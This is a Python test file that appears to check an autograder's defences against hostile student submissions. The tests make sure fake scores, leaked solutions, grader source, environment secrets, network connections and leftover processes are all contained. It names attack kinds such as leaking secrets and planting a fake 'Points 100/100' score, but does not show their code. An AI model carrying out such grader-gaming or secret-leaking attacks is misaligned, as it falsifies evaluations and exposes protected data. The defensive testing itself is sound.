@per_mode("test_attacked_functions_score_zero_and_the_others_full_marks", ATTACKS)
def test_attacked_functions_score_zero_and_the_others_full_marks(run, mode, attack):
    results = run.results(attack.name)
    assert results is not None, f"no results: {run.outcome.get(attack.name)}"
    expected = {q: 0 if q in attack.zero else points for q, points in POINTS.items()}
    got = function_scores(results)
    wrong = {q: (got.get(q), expected[q]) for q in POINTS if abs(got.get(q, -1) - expected[q]) > 1e-9}
    failures = [t["name"] + ": " + t["output"][:300] for t in results["tests"]
                if t["tags"][0] not in attack.zero and t["status"] != "passed"]
    assert wrong == {}, "\n".join(["(got, expected) by function", str(wrong), *failures])
    assert results["score"] == sum(expected.values())


@per_mode("test_results_file_is_the_graders", ATTACKS)
def test_results_file_is_the_graders(run, mode, attack):
    path = f"{attack.name}/results.json"
    assert path in run.final, f"no results: {run.outcome.get(attack.name)}"
    assert run.final[path] == run.snapshot.get(path), "the results file changed after grading"
    results, reference = json.loads(run.final[path]), run.results("reference")
    assert results["max_score"] == 100
    assert [(t["name"], t["tags"], t["max_score"]) for t in results["tests"]] == \
           [(t["name"], t["tags"], t["max_score"]) for t in reference["tests"]]
    assert all(t["status"] in ("passed", "failed") and t["score"] in (0, t["max_score"]) for t in results["tests"])
    assert results["score"] == round(sum(t["score"] for t in results["tests"]), 2)
    summary = results["output"].split("\n")[0]
    assert re.fullmatch(rf"\d+ of {len(POINTS)} functions pass every hidden test; score [\d.]+ / 100\.", summary)
    assert results["isolation"] == ("bwrap" if mode == "bwrap" else "subprocess")
    assert run.token not in all_text(results), "text of the student's appears outside student_output"
    assert len(results["student_output"]) <= LIMITS.output_bytes + OUTPUT_SLACK
    assert len(run.final[path]) < 1 << 20


@per_mode("test_grade_book_is_the_graders")
def test_grade_book_is_the_graders(run, mode, attack):
    assert run.final["grades.csv"] == run.snapshot["grades.csv"], "grades.csv changed after grading"
    rows = list(csv.reader(io.StringIO(run.final["grades.csv"].decode())))
    assert rows[0] == ["student", *POINTS, "total"]
    assert sorted(row[0] for row in rows[1:]) == sorted(a.name for a in ATTACKS)
    for row in rows[1:]:
        results = run.results(row[0])
        if results is None:
            continue  # reported by the per-attack tests
        scores = function_scores(results)
        assert row[1:] == [*(f"{scores.get(q, 0):g}" for q in POINTS), f"{results['score']:g}"], row[0]


@per_mode("test_every_attack_ran", lambda mode: [a for a in ATTACKS if a.evidence_for(mode)])
def test_every_attack_ran(run, mode, attack):
    """The results show the attack's effect (or what stopped it): the suite does not pass by accident."""
    results = run.results(attack.name)
    assert results is not None, f"no results: {run.outcome.get(attack.name)}"
    assert re.search(attack.evidence_for(mode), run.text(attack.name))


# -- attack by attack -----------------------------------------------------------------------------------------------
@per_mode("test_no_process_outlives_grading")
def test_no_process_outlives_grading(run, mode, attack):
    assert run.survivors == [] and _survivors(run.token) == []


@per_mode("test_grader_memory_stays_bounded")
def test_grader_memory_stays_bounded(run, mode, attack):
    """What a submission returns must not grow the (unsandboxed) grader process: it runs with no memory limit."""
    typical = sorted(run.grader_memory.values())[len(run.grader_memory) // 2]
    heavy = {student: peak for student, peak in run.grader_memory.items() if peak > typical + GRADER_MEMORY_SLACK_MB}
    assert heavy == {}, f"peak resident memory of the grader process, in MiB (typically {typical})"


@per_mode("test_student_output_is_kept_truncated")
def test_student_output_is_kept_truncated(run, mode, attack):
    kept = run.results("big_output")["student_output"]
    assert "BIG-OUTPUT-" + run.token in kept and "truncated" in kept
    assert len(kept) <= LIMITS.output_bytes + OUTPUT_SLACK


@per_mode("test_fake_results_stay_in_student_output")
def test_fake_results_stay_in_student_output(run, mode, attack):
    results = run.results("fake_results_on_stdout")
    assert "Points 100/100" in results["student_output"]
    assert "Points 100/100" not in all_text(results) and run.token not in all_text(results)


@per_mode("test_solutions_do_not_leak")
def test_solutions_do_not_leak(run, mode, attack):
    lines = set()
    for path in (ROOT / "solutions").rglob("*.py"):
        for region in path.read_text().split("### BEGIN SOLUTION")[1:]:
            lines |= {"LEAK|" + line.strip() for line in region.split("### END SOLUTION")[0].splitlines()
                      if len(line.strip()) >= 20}
    assert lines
    text = run.text("leaks_solutions")
    assert text and [line for line in lines if line in text] == []


def autograder_lines(exclude_text):
    """Lines of the hidden grader (worker.py is in the sandbox anyway) not found in ``exclude_text``."""
    lines = set()
    for path in (ROOT / "autograder").rglob("*.py"):
        if path.name != "worker.py":
            lines |= {line.strip() for line in path.read_text().splitlines() if len(line.strip()) >= 30}
    return {line for line in lines if line not in exclude_text}


@per_mode("test_autograder_does_not_leak")
def test_autograder_does_not_leak(run, mode, attack):
    lines = autograder_lines(run.text("reference") + run.text("wrong_value"))
    assert lines
    text = run.text("leaks_autograder")
    assert text and [line for line in lines if line in text] == []


@per_mode("test_no_grader_source_in_any_results")
def test_no_grader_source_in_any_results(run, mode, attack):
    lines = autograder_lines(run.text("reference") + run.text("wrong_value"))
    found = {}
    for a in ATTACKS:
        if a.name != "leaks_autograder":
            shown = {line.strip() for line in run.text(a.name).splitlines()}
            found.update({a.name: sorted(shown & lines)[:3]} if shown & lines else {})
    assert found == {}


@per_mode("test_environment_does_not_leak")
def test_environment_does_not_leak(run, mode, attack):
    assert all(run.secret.encode() not in data for data in run.final.values())
    assert "AUTOGRADER_TEST_SECRET" not in run.text("leaks_environment")


@per_mode("test_no_connection_reaches_the_host")
def test_no_connection_reaches_the_host(run, mode, attack):
    assert run.connections == []


@per_mode("test_loud_files_are_never_imported")
def test_loud_files_are_never_imported(run, mode, attack):
    assert all(b"LOUD-IMPORT-" not in data for data in run.final.values())


@per_mode("test_returned_payloads_never_run")
def test_returned_payloads_never_run(run, mode, attack):
    assert sorted(p.name for p in run.base.iterdir() if p.name.endswith("-ran-" + run.token)) == []


@per_mode("test_fake_results_written_anywhere_are_ignored")
def test_fake_results_written_anywhere_are_ignored(run, mode, attack):
    fake = f"FAKE-{run.token}"
    assert fake.encode() not in run.final["grades.csv"]
    planted = [a.name for a in ATTACKS if run.results(a.name) and fake in all_text(run.results(a.name))]
    assert planted == []
    assert set(run.final) <= {"grades.csv", "report.html", "misconceptions.csv",
                              *(f"{a.name}/{name}" for a in ATTACKS for name in ("results.json", "feedback.md"))}
    assert not any(fake.encode() in data for data in run.final.values())
